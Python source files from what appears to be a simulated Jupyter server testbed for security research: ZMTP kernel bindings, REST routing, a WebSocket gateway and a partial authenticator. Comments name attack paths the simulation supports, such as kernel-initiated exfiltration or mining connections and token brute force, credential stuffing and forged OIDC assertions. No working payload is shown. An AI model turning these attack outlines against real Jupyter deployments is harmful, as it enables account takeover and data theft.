from repro.wire.zmtp import ZmtpDecoder, encode_greeting, encode_multipart, encode_ready

#: Default port layout (base + offset per channel), mirroring a real
#: connection file's shell_port/iopub_port/control_port/hb_port.
CHANNEL_PORT_OFFSETS = {
    Channel.SHELL: 0,
    Channel.IOPUB: 1,
    Channel.CONTROL: 2,
    Channel.HEARTBEAT: 3,
    Channel.STDIN: 4,
}


@dataclass
class ConnectionInfo:
    """The 'connection file' a client needs to reach a kernel."""

    ip: str
    shell_port: int
    iopub_port: int
    control_port: int
    hb_port: int
    stdin_port: int
    key: bytes
    signature_scheme: str = "hmac-sha256"


class _ZmtpPeer:
    """Server side of one accepted ZMTP connection."""

    def __init__(self, conn: TcpConnection, on_message: Callable[[List[bytes]], None]):
        self.conn = conn
        self.decoder = ZmtpDecoder()
        self.on_message = on_message
        conn.on_data_server = self._feed
        # Kernel side sends its greeting + READY straight away.
        conn.send_to_client(encode_greeting(as_server=True) + encode_ready("ROUTER"))

    def _feed(self, data: bytes) -> None:
        self.decoder.feed(data)
        for parts in self.decoder.messages():
            self.on_message(parts)

    def send(self, parts: List[bytes]) -> None:
        if self.conn.open:
            self.conn.send_to_client(encode_multipart(parts))


class KernelZmtpBinding:
    """Exposes one kernel's five channels as ZMTP listeners on a host."""

    def __init__(self, kernel: KernelRuntime, host: Host, network: Network,
                 *, base_port: int = 50000, bind_ip: str = "127.0.0.1"):
        self.kernel = kernel
        self.host = host
        self.network = network
        self.base_port = base_port
        self.ports: Dict[Channel, int] = {
            ch: base_port + off for ch, off in CHANNEL_PORT_OFFSETS.items()
        }
        self._iopub_peers: List[_ZmtpPeer] = []
        for ch in (Channel.SHELL, Channel.CONTROL):
            host.listen(self.ports[ch], self._make_request_acceptor(ch), bind_ip=bind_ip)
        host.listen(self.ports[Channel.IOPUB], self._accept_iopub, bind_ip=bind_ip)
        host.listen(self.ports[Channel.HEARTBEAT], self._accept_heartbeat, bind_ip=bind_ip)
        host.listen(self.ports[Channel.STDIN], self._make_request_acceptor(Channel.STDIN), bind_ip=bind_ip)

    def connection_info(self) -> ConnectionInfo:
        return ConnectionInfo(
            ip=self.host.ip,
            shell_port=self.ports[Channel.SHELL],
            iopub_port=self.ports[Channel.IOPUB],
            control_port=self.ports[Channel.CONTROL],
            hb_port=self.ports[Channel.HEARTBEAT],
            stdin_port=self.ports[Channel.STDIN],
            key=self.kernel.session.signer.key if hasattr(self.kernel.session.signer, "key") else b"",
        )

    # -- channel acceptors ------------------------------------------------------
    def _make_request_acceptor(self, channel: Channel):
        def accept(conn: TcpConnection) -> None:
            peer: _ZmtpPeer = _ZmtpPeer(conn, lambda parts: self._on_request(peer, parts))

        return accept

    def _accept_iopub(self, conn: TcpConnection) -> None:
        peer = _ZmtpPeer(conn, lambda parts: None)  # SUB side never sends messages
        self._iopub_peers.append(peer)

    def _accept_heartbeat(self, conn: TcpConnection) -> None:
        def on_message(parts: List[bytes]) -> None:
            try:
                echo = self.kernel.heartbeat(parts[0] if parts else b"")
            except RuntimeError:
                conn.close(by_client=False)
                return
            peer.send([echo])

        peer = _ZmtpPeer(conn, on_message)

    # -- request handling ----------------------------------------------------------
    def _on_request(self, peer: _ZmtpPeer, parts: List[bytes]) -> None:
        try:
            request = self.kernel.session.unserialize(parts)
        except ProtocolError as e:
            # Signature failures never reach the interpreter; the kernel
            # logs and drops, exactly like jupyter_client.
            self.kernel.world.emit("bad_message", error=str(e))
            return
        msgs = self.kernel.handle(request)
        reply, iopub = msgs[0], msgs[1:]
        duration = 0.0
        if request.msg_type == "execute_request" and self.kernel.history:
            duration = self.kernel.history[-1].duration
        loop = self.network.loop

        def send_iopub(msg: Message) -> None:
            wire = self.kernel.session.serialize(msg)
            for sub in list(self._iopub_peers):
                if sub.conn.open:
                    sub.send(wire)

        # busy/execute_input go out immediately; results after the work.
        immediate = [m for m in iopub if m.msg_type in ("status", "execute_input")
                     and m.content.get("execution_state") != "idle"]
        deferred = [m for m in iopub if m not in immediate]
        for m in immediate:
            send_iopub(m)
        if duration > 0:
            loop.call_later(duration, lambda: ([send_iopub(m) for m in deferred],
                                               peer.send(self.kernel.session.serialize(reply))))
        else:
            for m in deferred:
                send_iopub(m)
            peer.send(self.kernel.session.serialize(reply))


class ZmtpKernelClient:
    """The server's client half: connects to a kernel's ZMTP ports."""

    def __init__(self, info: ConnectionInfo, server_host: Host, kernel_host: Host,
                 *, session: Optional[Session] = None):
        self.info = info
        self.session = session or Session(info.key, check_replay=False)
        self._decoders: Dict[Channel, ZmtpDecoder] = {}
        self._conns: Dict[Channel, TcpConnection] = {}
        self.on_shell_reply: List[Callable[[Message], None]] = []
        self.on_iopub: List[Callable[[Message], None]] = []
        self.on_control_reply: List[Callable[[Message], None]] = []
        self.hb_echoes: List[bytes] = []
        ports = {
            Channel.SHELL: info.shell_port,
            Channel.IOPUB: info.iopub_port,
            Channel.CONTROL: info.control_port,
            Channel.HEARTBEAT: info.hb_port,
        }
        for ch, port in ports.items():
            conn = server_host.connect(kernel_host, port)
            self._conns[ch] = conn
            self._decoders[ch] = ZmtpDecoder()
            conn.on_data_client = self._make_feed(ch)
            conn.send_to_server(encode_greeting() + encode_ready("DEALER"))

    def _make_feed(self, channel: Channel):
        def feed(data: bytes) -> None:
            dec = self._decoders[channel]
            dec.feed(data)
            for parts in dec.messages():
                self._dispatch(channel, parts)

        return feed

    def _dispatch(self, channel: Channel, parts: List[bytes]) -> None:
        if channel == Channel.HEARTBEAT:
            self.hb_echoes.append(parts[0] if parts else b"")
            return
        msg = self.session.unserialize(parts)
        msg.channel = channel
        targets = {
            Channel.SHELL: self.on_shell_reply,
            Channel.IOPUB: self.on_iopub,
            Channel.CONTROL: self.on_control_reply,
        }[channel]
        for fn in targets:
            fn(msg)

    # -- sending ------------------------------------------------------------------
    def send(self, msg: Message) -> None:
        channel = msg.channel or msg.expected_channel() or Channel.SHELL
        if channel == Channel.IOPUB:
            raise ProtocolError("clients cannot publish on iopub")
        conn = self._conns[Channel.SHELL if channel == Channel.STDIN else channel]
        conn.send_to_server(encode_multipart(self.session.serialize(msg)))

    def ping(self, payload: bytes = b"ping") -> None:
        self._conns[Channel.HEARTBEAT].send_to_server(encode_multipart([payload]))

    def close(self) -> None:
        for conn in self._conns.values():
            if conn.open:
                conn.close()
