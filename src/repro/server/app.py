"""The Jupyter server application: routing, auth, kernels, contents.

Transport-agnostic: :meth:`JupyterServer.handle_request` maps an
:class:`~repro.wire.http.HttpRequest` to an
:class:`~repro.wire.http.HttpResponse`; the simnet adapter in
:mod:`repro.server.gateway` feeds it raw bytes.  Kernels are real
:class:`~repro.kernel.runtime.KernelRuntime` instances bound to ZMTP
loopback ports (paper Fig. 2's two-process model).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional, Tuple

from repro.kernel.runtime import KernelRuntime
from repro.kernel.world import KernelWorld
from repro.nbformat import NotebookSignatureStore
from repro.server.auth import Authenticator, AuthResult
from repro.server.config import ServerConfig
from repro.server.contents import ContentsError, ContentsManager
from repro.server.terminal import TerminalManager
from repro.server.zmtpbind import KernelZmtpBinding, ZmtpKernelClient
from repro.simnet import Host, Network
from repro.util.ids import new_id
from repro.vfs import VfsError, VirtualFS
from repro.wire.http import HttpRequest, HttpResponse


def _json_response(status: int, payload: Any) -> HttpResponse:
    return HttpResponse(
        status,
        headers={"Content-Type": "application/json"},
        body=json.dumps(payload, sort_keys=True, default=str).encode(),
    )


@dataclass
class AccessLogEntry:
    """One HTTP request record (the server-side log the dataset exports)."""

    ts: float
    source_ip: str
    method: str
    path: str
    status: int
    username: str
    body_bytes: int
    #: Original client IP when the request was relayed by a hub proxy
    #: (the proxy sets X-Forwarded-For; empty for direct connections).
    forwarded_for: str = ""


class JupyterServer:
    """One simulated Jupyter deployment attached to a simnet host."""

    def __init__(self, config: ServerConfig, network: Network, host: Host):
        self.config = config
        self.network = network
        self.host = host
        self.clock = network.loop.clock
        self.fs = VirtualFS(self.clock)
        self.contents = ContentsManager(self.fs, root=config.root_dir)
        self.auth = Authenticator(config, self.clock)
        self.terminals = TerminalManager(self.fs, self.clock)
        self.notary = NotebookSignatureStore(config.notary_key)
        self.kernels: Dict[str, KernelRuntime] = {}
        self.kernel_bindings: Dict[str, KernelZmtpBinding] = {}
        self.kernel_clients: Dict[str, ZmtpKernelClient] = {}
        self.access_log: List[AccessLogEntry] = []
        self._next_kernel_port = 50000
        self._rate_window: List[Tuple[float, str]] = []

    # ------------------------------------------------------------------ kernels
    def _kernel_world(self) -> KernelWorld:
        return KernelWorld(fs=self.fs, clock=self.clock, connect=self._outbound_connect,
                           home=self.config.root_dir)

    def _outbound_connect(self, hostname: str, port: int):
        """Kernel-initiated outbound connection (the exfil/miner path)."""
        target = self.network.hosts.get(hostname)
        if target is None:
            target = next((h for h in self.network.hosts.values() if h.ip == hostname), None)
        if target is None or port not in target.listeners:
            return None

        class _Chan:
            def __init__(chan):
                chan._conn = self.host.connect(target, port)
                chan._cb = None
                chan._conn.on_data_client = lambda data: chan._cb(data) if chan._cb else None

            def send(chan, data: bytes) -> None:
                chan._conn.send_to_server(data)

            def on_receive(chan, cb) -> None:
                chan._cb = cb

            def close(chan) -> None:
                if chan._conn.open:
                    chan._conn.close()

        try:
            return _Chan()
        except Exception:
            return None

    def start_kernel(self) -> KernelRuntime:
        kernel = KernelRuntime(self._kernel_world(), key=self.config.session_key)
        # Multiple servers can share one host (hub fleet nodes), so skip
        # past port blocks a sibling's kernels already bound.
        while any(p in self.host.listeners
                  for p in range(self._next_kernel_port, self._next_kernel_port + 10)):
            self._next_kernel_port += 10
        binding = KernelZmtpBinding(kernel, self.host, self.network, base_port=self._next_kernel_port)
        self._next_kernel_port += 10
        client = ZmtpKernelClient(binding.connection_info(), self.host, self.host)
        self.kernels[kernel.kernel_id] = kernel
        self.kernel_bindings[kernel.kernel_id] = binding
        self.kernel_clients[kernel.kernel_id] = client
        return kernel

    def shutdown_kernel(self, kernel_id: str) -> bool:
        kernel = self.kernels.pop(kernel_id, None)
        if kernel is None:
            return False
        kernel.state = "dead"
        binding = self.kernel_bindings.pop(kernel_id, None)
        if binding:
            for port in binding.ports.values():
                self.host.unlisten(port)
        client = self.kernel_clients.pop(kernel_id, None)
        if client:
            client.close()
        return True

    # ------------------------------------------------------------------ auth glue
    def _authenticate(self, request: HttpRequest, source_ip: str) -> AuthResult:
        token = ""
        auth_header = request.header("authorization")
        if auth_header.lower().startswith("token "):
            token = auth_header[6:].strip()
        if not token:
            token = (request.query.get("token") or [""])[0]
        password = request.header("x-jupyter-password")
        oidc = request.header("x-oidc-assertion")
        return self.auth.authenticate(source_ip=source_ip, token=token, password=password,
                                      oidc_assertion=oidc)

    def _rate_limited(self, source_ip: str) -> bool:
        cfg = self.config
        if cfg.rate_limit_window_seconds <= 0 or cfg.rate_limit_max_requests <= 0:
            return False
        now = self.clock.now()
        cutoff = now - cfg.rate_limit_window_seconds
        self._rate_window = [(t, ip) for t, ip in self._rate_window if t > cutoff]
        count = sum(1 for _, ip in self._rate_window if ip == source_ip)
        self._rate_window.append((now, source_ip))
        return count >= cfg.rate_limit_max_requests

    # ------------------------------------------------------------------ routing
    def handle_request(self, request: HttpRequest, *, source_ip: str = "") -> HttpResponse:
        """Route one REST request (WebSocket upgrades handled by the gateway)."""
        response = self._route(request, source_ip)
        self.access_log.append(
            AccessLogEntry(
                ts=self.clock.now(),
                source_ip=source_ip,
                method=request.method,
                path=request.path,
                status=response.status,
                username=getattr(response, "_username", ""),
                body_bytes=len(response.body),
                forwarded_for=request.header("x-forwarded-for"),
            )
        )
        return response

    def _route(self, request: HttpRequest, source_ip: str) -> HttpResponse:
        path = request.path
        if self._rate_limited(source_ip):
            return _json_response(429, {"message": "rate limited"})
        # Unauthenticated endpoints, as in real Jupyter.
        if path == "/api" or path == "/api/":
            return _json_response(200, {"version": self.config.version})
        auth = self._authenticate(request, source_ip)
        if not auth.ok:
            return _json_response(403, {"message": f"Forbidden: {auth.reason}"})
        try:
            response = self._dispatch(request, auth)
        except ContentsError as e:
            response = _json_response(e.status, {"message": str(e)})
        except VfsError as e:
            response = _json_response(400, {"message": str(e)})
        response._username = auth.username  # type: ignore[attr-defined]
        return response

    def _dispatch(self, request: HttpRequest, auth: AuthResult) -> HttpResponse:
        path, method = request.path, request.method
        if path == "/api/status":
            return _json_response(200, {
                "started": True,
                "kernels": len(self.kernels),
                "version": self.config.version,
            })
        if path.startswith("/api/contents"):
            return self._handle_contents(request)
        if path.startswith("/api/kernels"):
            return self._handle_kernels(request)
        if path.startswith("/api/terminals"):
            return self._handle_terminals(request, auth)
        if path.startswith("/api/sessions"):
            return _json_response(200, [])
        return _json_response(404, {"message": f"no handler for {path}"})

    # -- contents ------------------------------------------------------------------
    def _handle_contents(self, request: HttpRequest) -> HttpResponse:
        api_path = request.path[len("/api/contents"):].strip("/")
        method = request.method
        # Checkpoint sub-resource: /api/contents/<path>/checkpoints[/<id>]
        if "/checkpoints" in "/" + api_path:
            return self._handle_checkpoints(api_path, method)
        if method == "GET":
            model = self.contents.get(api_path)
            if model["type"] == "notebook":
                # Untrusted notebooks get their active content sanitized.
                from repro.nbformat import Notebook
                from repro.nbformat.trust import sanitize_untrusted_outputs

                nb = Notebook.from_dict(model["content"])
                if not self.notary.check(nb):
                    sanitize_untrusted_outputs(nb)
                    model["content"] = nb.to_dict()
                    model["trusted"] = False
                else:
                    model["trusted"] = True
            return _json_response(200, model)
        if method in ("PUT", "POST"):
            try:
                model = json.loads(request.body or b"{}")
            except json.JSONDecodeError:
                return _json_response(400, {"message": "invalid JSON body"})
            saved = self.contents.save(api_path, model)
            if model.get("type") == "notebook" and model.get("trust"):
                from repro.nbformat import Notebook

                self.notary.sign(Notebook.from_dict(model["content"]))
            return _json_response(201 if method == "POST" else 200, saved)
        if method == "PATCH":
            try:
                body = json.loads(request.body or b"{}")
            except json.JSONDecodeError:
                return _json_response(400, {"message": "invalid JSON body"})
            new_path = str(body.get("path", "")).strip("/")
            return _json_response(200, self.contents.rename(api_path, new_path))
        if method == "DELETE":
            self.contents.delete(api_path)
            return _json_response(204, {})
        return _json_response(405, {"message": f"{method} not allowed"})

    def _handle_checkpoints(self, api_path: str, method: str) -> HttpResponse:
        """Jupyter's checkpoint endpoints:
        GET/POST ``<path>/checkpoints`` list/create;
        POST ``<path>/checkpoints/<id>`` restores;
        DELETE ``<path>/checkpoints/<id>`` removes."""
        before, _, after = api_path.partition("/checkpoints")
        file_path = before.strip("/")
        checkpoint_id = after.strip("/")
        if not checkpoint_id:
            if method == "GET":
                return _json_response(200, self.contents.list_checkpoints(file_path))
            if method == "POST":
                existing = self.contents.list_checkpoints(file_path)
                new_id_ = str(len(existing))
                return _json_response(201, self.contents.create_checkpoint(file_path, new_id_))
        else:
            if method == "POST":
                self.contents.restore_checkpoint(file_path, checkpoint_id)
                return _json_response(204, {})
            if method == "DELETE":
                self.contents.delete_checkpoint(file_path, checkpoint_id)
                return _json_response(204, {})
        return _json_response(405, {"message": f"{method} not allowed on checkpoints"})

    # -- kernels ------------------------------------------------------------------
    def _handle_kernels(self, request: HttpRequest) -> HttpResponse:
        rest = request.path[len("/api/kernels"):].strip("/")
        method = request.method
        if not rest:
            if method == "GET":
                return _json_response(200, [
                    {"id": kid, "execution_state": k.state, "connections": 1}
                    for kid, k in sorted(self.kernels.items())
                ])
            if method == "POST":
                kernel = self.start_kernel()
                return _json_response(201, {"id": kernel.kernel_id, "execution_state": kernel.state})
            return _json_response(405, {"message": f"{method} not allowed"})
        parts = rest.split("/")
        kernel_id = parts[0]
        kernel = self.kernels.get(kernel_id)
        if kernel is None:
            return _json_response(404, {"message": f"kernel {kernel_id} not found"})
        action = parts[1] if len(parts) > 1 else ""
        if method == "DELETE" and not action:
            self.shutdown_kernel(kernel_id)
            return _json_response(204, {})
        if method == "POST" and action == "interrupt":
            kernel.interrupted = True
            return _json_response(204, {})
        if method == "POST" and action == "restart":
            old_world = kernel.world
            new_kernel = KernelRuntime(old_world, key=self.config.session_key, kernel_id=kernel_id)
            self.kernels[kernel_id] = new_kernel
            binding = self.kernel_bindings.get(kernel_id)
            if binding:
                binding.kernel = new_kernel
            return _json_response(200, {"id": kernel_id, "execution_state": new_kernel.state})
        if method == "GET" and not action:
            return _json_response(200, {"id": kernel_id, "execution_state": kernel.state})
        return _json_response(405, {"message": "unsupported kernel operation"})

    # -- terminals ------------------------------------------------------------------
    def _handle_terminals(self, request: HttpRequest, auth: AuthResult) -> HttpResponse:
        if not self.config.terminals_enabled:
            return _json_response(403, {"message": "terminals disabled by configuration"})
        rest = request.path[len("/api/terminals"):].strip("/")
        method = request.method
        if not rest:
            if method == "GET":
                return _json_response(200, [{"name": n} for n in self.terminals.list_names()])
            if method == "POST":
                term = self.terminals.create(username=auth.username or "anonymous")
                return _json_response(201, {"name": term.name})
        else:
            parts = rest.split("/")
            term = self.terminals.get(parts[0])
            if term is None:
                return _json_response(404, {"message": "no such terminal"})
            if method == "DELETE":
                self.terminals.delete(parts[0])
                return _json_response(204, {})
            if method == "POST" and len(parts) > 1 and parts[1] == "run":
                command = request.body.decode("utf-8", "replace")
                code, output = term.run(command)
                return _json_response(200, {"exit_code": code, "output": output})
        return _json_response(405, {"message": "unsupported terminal operation"})
