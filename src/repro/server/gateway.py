"""Simnet adapter: raw TCP bytes ↔ the Jupyter server application.

:class:`ServerGateway` binds the server's HTTP port on its simnet host,
parses requests incrementally (clients may dribble bytes), answers REST
calls, and upgrades ``/api/kernels/<id>/channels`` connections to
WebSocket.  Upgraded connections bridge both ways:

    client WS frame (Jupyter JSON) → shell/control ZMTP → kernel
    kernel iopub/replies (ZMTP)    → WS frames         → client

— the complete Fig. 2 data path, every hop of it on the tapped network.

:class:`WebSocketKernelClient` is the client-side helper used by
examples, workloads, and attacks: it performs the HTTP auth + upgrade
dance and exposes ``execute()``.
"""

from __future__ import annotations

import json
from typing import Callable, Dict, List, Optional

from repro.messaging import Channel, Message, Session
from repro.server.app import JupyterServer
from repro.simnet import Host, TcpConnection
from repro.util.errors import ProtocolError
from repro.util.ids import new_id
from repro.wire.buffer import ByteCursor
from repro.wire.http import HttpRequest, HttpResponse, parse_request_from, parse_response
from repro.wire.websocket import (
    Opcode,
    WebSocketDecoder,
    build_handshake_request,
    build_handshake_response,
    encode_binary,
    encode_close,
    encode_text,
)


class _GatewayConnection:
    """Per-TCP-connection state machine on the server side."""

    #: Cap on the unparsed request buffer — a head that never completes
    #: or a body beyond any legitimate upload must not grow server
    #: memory without bound (same withholding-peer guard the hub proxy
    #: and monitor have).
    MAX_BUFFER = 64 << 20

    def __init__(self, gateway: "ServerGateway", conn: TcpConnection):
        self.gateway = gateway
        self.conn = conn
        self.buffer = ByteCursor()
        self.upgraded = False
        self.ws_decoder: Optional[WebSocketDecoder] = None
        self.kernel_id: Optional[str] = None
        conn.on_data_server = self.feed
        conn.on_close_server = self.on_close

    def feed(self, data: bytes) -> None:
        if not self.conn.open:
            return  # segments still in flight after we closed on the peer
        if self.upgraded:
            self._feed_websocket(data)
            return
        self.buffer.append(data)
        while True:
            try:
                request = parse_request_from(self.buffer)
            except ProtocolError as e:
                self.gateway.protocol_errors.append(str(e))
                self.conn.close(by_client=False)
                return
            if request is None:
                if len(self.buffer) > self.MAX_BUFFER:
                    self.gateway.protocol_errors.append("request exceeds buffer cap")
                    self.conn.send_to_client(HttpResponse(
                        413, body=b"request exceeds buffer cap").encode())
                    self.conn.close(by_client=False)
                return
            self._handle_http(request)
            if self.upgraded:
                if self.buffer:
                    self._feed_websocket(self.buffer.take_all())
                return

    # -- HTTP ---------------------------------------------------------------------
    def _handle_http(self, request: HttpRequest) -> None:
        server = self.gateway.server
        source_ip = self.conn.client.ip
        if request.is_websocket_upgrade():
            response, kernel_id = self._try_upgrade(request, source_ip)
            self.conn.send_to_client(response.encode())
            if response.status == 101:
                self.upgraded = True
                self.ws_decoder = WebSocketDecoder(collect_frames=False)
                self.kernel_id = kernel_id
                self.gateway.attach_ws_bridge(self)
            return
        response = server.handle_request(request, source_ip=source_ip)
        self.conn.send_to_client(response.encode())

    def _try_upgrade(self, request: HttpRequest, source_ip: str):
        server = self.gateway.server
        auth = server._authenticate(request, source_ip)
        if not auth.ok:
            return HttpResponse(403, body=b'{"message": "Forbidden"}'), None
        path = request.path
        if not (path.startswith("/api/kernels/") and path.endswith("/channels")):
            return HttpResponse(404, body=b'{"message": "not a channels endpoint"}'), None
        kernel_id = path[len("/api/kernels/"):-len("/channels")]
        if kernel_id not in server.kernels:
            return HttpResponse(404, body=b'{"message": "kernel not found"}'), None
        key = request.header("sec-websocket-key")
        if not key:
            return HttpResponse(400, body=b'{"message": "missing Sec-WebSocket-Key"}'), None
        return build_handshake_response(key), kernel_id

    # -- WebSocket ------------------------------------------------------------------
    def _feed_websocket(self, data: bytes) -> None:
        assert self.ws_decoder is not None
        try:
            self.ws_decoder.feed(data)
        except ProtocolError as e:
            self.gateway.protocol_errors.append(str(e))
            self.conn.send_to_client(encode_close(1002, "protocol error"))
            self.conn.close(by_client=False)
            return
        for opcode, payload in self.ws_decoder.messages():
            if opcode == Opcode.PING:
                self.conn.send_to_client(
                    # pong mirrors payload
                    bytes([0x8A, len(payload)]) + payload if len(payload) <= 125 else b""
                )
            elif opcode == Opcode.CLOSE:
                self.conn.close(by_client=False)
            elif opcode in (Opcode.TEXT, Opcode.BINARY):
                self.gateway.forward_to_kernel(self, payload)

    def send_ws(self, payload: str) -> None:
        if self.conn.open:
            self.conn.send_to_client(encode_text(payload))

    def on_close(self) -> None:
        self.gateway.detach_ws_bridge(self)


class ServerGateway:
    """Binds the server app onto its host's HTTP port."""

    def __init__(self, server: JupyterServer):
        self.server = server
        self.host = server.host
        self.connections: List[_GatewayConnection] = []
        self.protocol_errors: List[str] = []
        self._bridges: Dict[str, List[_GatewayConnection]] = {}
        self._iopub_hooked: set[str] = set()
        bind_ip = "127.0.0.1" if server.config.ip == "127.0.0.1" else "0.0.0.0"
        self.host.listen(server.config.port, self._accept, bind_ip=bind_ip)

    def _accept(self, conn: TcpConnection) -> None:
        self.connections.append(_GatewayConnection(self, conn))

    # -- ws ↔ zmtp bridging ------------------------------------------------------------
    def attach_ws_bridge(self, gconn: _GatewayConnection) -> None:
        kid = gconn.kernel_id
        assert kid is not None
        self._bridges.setdefault(kid, []).append(gconn)
        if kid not in self._iopub_hooked:
            self._iopub_hooked.add(kid)
            client = self.server.kernel_clients[kid]
            client.on_iopub.append(lambda msg, kid=kid: self._broadcast(kid, msg))
            client.on_shell_reply.append(lambda msg, kid=kid: self._broadcast(kid, msg))
            client.on_control_reply.append(lambda msg, kid=kid: self._broadcast(kid, msg))

    def detach_ws_bridge(self, gconn: _GatewayConnection) -> None:
        if gconn.kernel_id and gconn.kernel_id in self._bridges:
            try:
                self._bridges[gconn.kernel_id].remove(gconn)
            except ValueError:
                pass

    def _broadcast(self, kernel_id: str, msg: Message) -> None:
        text = msg.to_websocket_json()
        for gconn in list(self._bridges.get(kernel_id, [])):
            gconn.send_ws(text)

    def forward_to_kernel(self, gconn: _GatewayConnection, payload: bytes) -> None:
        kid = gconn.kernel_id
        client = self.server.kernel_clients.get(kid or "")
        if client is None:
            return
        try:
            msg = Message.from_websocket_json(payload)
        except (json.JSONDecodeError, KeyError) as e:
            self.protocol_errors.append(f"bad ws message: {e}")
            return
        client.send(msg)


class WebSocketKernelClient:
    """Client-side: REST + WebSocket against a (possibly remote) server.

    Drives the full network path; used by benign workloads and by
    attacks that masquerade as notebook users.
    """

    def __init__(self, client_host: Host, server_host: Host, *, port: int = 8888,
                 token: str = "", username: str = "scientist", path_prefix: str = ""):
        self.client_host = client_host
        self.server_host = server_host
        self.port = port
        self.token = token
        #: Prepended to ``/api/...`` paths — set to ``/user/<name>`` to
        #: reach a tenant behind a hub reverse proxy.  Non-API paths
        #: (``/hub/...``) pass through untouched.
        self.path_prefix = path_prefix.rstrip("/")
        self.session = Session(b"", username=username, check_replay=False)
        self.received: List[Message] = []
        self.iopub: List[Message] = []
        self.replies: Dict[str, Message] = {}
        self._http_buffer = b""
        self._ws_decoder: Optional[WebSocketDecoder] = None
        self._conn: Optional[TcpConnection] = None
        self.kernel_id: Optional[str] = None
        #: SimClock delta from send to first-response completion and the
        #: first response's body size, for the most recent :meth:`request`
        #: (0.0/0 before any request or when none arrived).  Timing-side
        #: consumers (the traffic fingerprinter) read these instead of
        #: re-deriving time around ``network.run``, which always advances
        #: the clock by its full window regardless of arrival.
        self.last_elapsed: float = 0.0
        self.last_response_bytes: int = 0

    # -- plain REST -----------------------------------------------------------------
    def request(self, method: str, path: str, body: bytes = b"") -> HttpResponse:
        """One-shot REST request on a fresh connection."""
        if self.path_prefix and path.startswith("/api"):
            path = self.path_prefix + path
        conn = self.client_host.connect(self.server_host, self.port)
        responses: List[HttpResponse] = []
        buffer = b""
        clock = self.client_host.network.loop.clock
        sent_at = clock.now()
        self.last_elapsed = 0.0
        self.last_response_bytes = 0

        def on_data(data: bytes) -> None:
            nonlocal buffer
            buffer += data
            resp, rest = parse_response(buffer)
            if resp is not None:
                if not responses:
                    # Arrival time must be read *inside* the delivery
                    # callback: run() below pins the clock to its window end.
                    self.last_elapsed = clock.now() - sent_at
                    self.last_response_bytes = len(resp.body or b"")
                responses.append(resp)
                buffer = rest

        conn.on_data_client = on_data
        headers = {"Host": f"{self.server_host.ip}:{self.port}"}
        if self.token:
            headers["Authorization"] = f"token {self.token}"
        conn.send_to_server(HttpRequest(method, path, headers, body).encode())
        self.client_host.network.run(1.0)
        if conn.open:
            conn.close()
        if not responses:
            raise ProtocolError(f"no response to {method} {path}")
        return responses[0]

    def json(self, method: str, path: str, payload: Optional[dict] = None) -> dict:
        resp = self.request(method, path, json.dumps(payload).encode() if payload is not None else b"")
        return json.loads(resp.body or b"{}")

    # -- kernel lifecycle --------------------------------------------------------------
    def start_kernel(self) -> str:
        resp = self.json("POST", "/api/kernels")
        self.kernel_id = resp["id"]
        return self.kernel_id

    def connect_channels(self) -> None:
        """HTTP upgrade; afterwards :meth:`execute` works."""
        if self.kernel_id is None:
            raise ProtocolError("start a kernel first")
        conn = self.client_host.connect(self.server_host, self.port)
        self._conn = conn
        self._ws_decoder = None
        upgraded = []
        http_buf = b""

        def on_data(data: bytes) -> None:
            nonlocal http_buf
            if self._ws_decoder is None:
                http_buf += data
                resp, rest = parse_response(http_buf)
                if resp is None:
                    return
                if resp.status != 101:
                    raise ProtocolError(f"upgrade refused: {resp.status}")
                self._ws_decoder = WebSocketDecoder(collect_frames=False)
                upgraded.append(True)
                if rest:
                    self._feed_ws(rest)
            else:
                self._feed_ws(data)

        conn.on_data_client = on_data
        req = build_handshake_request(
            f"{self.server_host.ip}:{self.port}",
            f"{self.path_prefix}/api/kernels/{self.kernel_id}/channels",
            "x3JJHMbDL1EzLkh9GBhXDw==",
            token=self.token,
        )
        conn.send_to_server(req.encode())
        self.client_host.network.run(1.0)
        if not upgraded:
            raise ProtocolError("websocket upgrade did not complete")

    def _feed_ws(self, data: bytes) -> None:
        assert self._ws_decoder is not None
        self._ws_decoder.feed(data)
        for opcode, payload in self._ws_decoder.messages():
            if opcode not in (Opcode.TEXT, Opcode.BINARY):
                continue
            msg = Message.from_websocket_json(payload)
            self.received.append(msg)
            if msg.channel == Channel.IOPUB:
                self.iopub.append(msg)
            elif msg.parent_header is not None:
                self.replies[msg.parent_header.msg_id] = msg

    def send(self, msg: Message) -> None:
        if self._conn is None or self._ws_decoder is None:
            raise ProtocolError("channels not connected")
        self._conn.send_to_server(encode_text(msg.to_websocket_json(), mask_key=b"\x11\x22\x33\x44"))

    def execute(self, code: str, *, wait: float = 30.0) -> Optional[Message]:
        """Send an execute_request and run the network until the reply lands."""
        req = self.session.execute_request(code)
        self.send(req)
        self.client_host.network.run(wait)
        return self.replies.get(req.msg_id)

    def close(self) -> None:
        if self._conn is not None and self._conn.open:
            self._conn.send_to_server(encode_close(1000, "bye", mask_key=b"\x01\x02\x03\x04"))
            self._conn.close()
