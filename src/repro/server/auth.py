"""Authentication: token, password, and simulated OIDC federation.

The account-takeover attack exercises this layer: token brute force,
credential stuffing against the password path, and forged OIDC
assertions (the paper's related-work section warns third-party OIDC
plugins arrive "with minimal guarantee").  Every failure is recorded
with its source so the monitor's brute-force detector has a signal.
"""

from __future__ import annotations

import hmac as _hmac
import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.crypto.passwords import verify_password
from repro.crypto.signing import HMACSigner
from repro.server.config import ServerConfig
from repro.util.clock import Clock, SimClock


@dataclass(frozen=True)
class AuthResult:
    ok: bool
    username: str = ""
    method: str = ""  # "token" | "password" | "oidc" | "open" | ""
    reason: str = ""


@dataclass
class AuthAttempt:
    ts: float
    source_ip: str
    method: str
    ok: bool
    detail: str = ""


class Authenticator:
    """Evaluates credentials for one server according to its config."""

    def __init__(self, config: ServerConfig, clock: Optional[Clock] = None):
        self.config = config
        self.clock = clock or SimClock()
        self.attempts: List[AuthAttempt] = []
        self.oidc_providers: Dict[str, "OIDCProviderSim"] = {}

    def _record(self, source_ip: str, method: str, ok: bool, detail: str = "") -> None:
        self.attempts.append(AuthAttempt(self.clock.now(), source_ip, method, ok, detail))

    def register_oidc(self, provider: "OIDCProviderSim") -> None:
        self.oidc_providers[provider.issuer] = provider

    # -- the main entry point ---------------------------------------------------
    def authenticate(
        self,
        *,
        source_ip: str = "",
        token: str = "",
        password: str = "",
        oidc_assertion: str = "",
    ) -> AuthResult:
        cfg = self.config
        if cfg.allow_unauthenticated_access or not cfg.auth_enabled:
            self._record(source_ip, "open", True)
            return AuthResult(True, username="anonymous", method="open")
        if token:
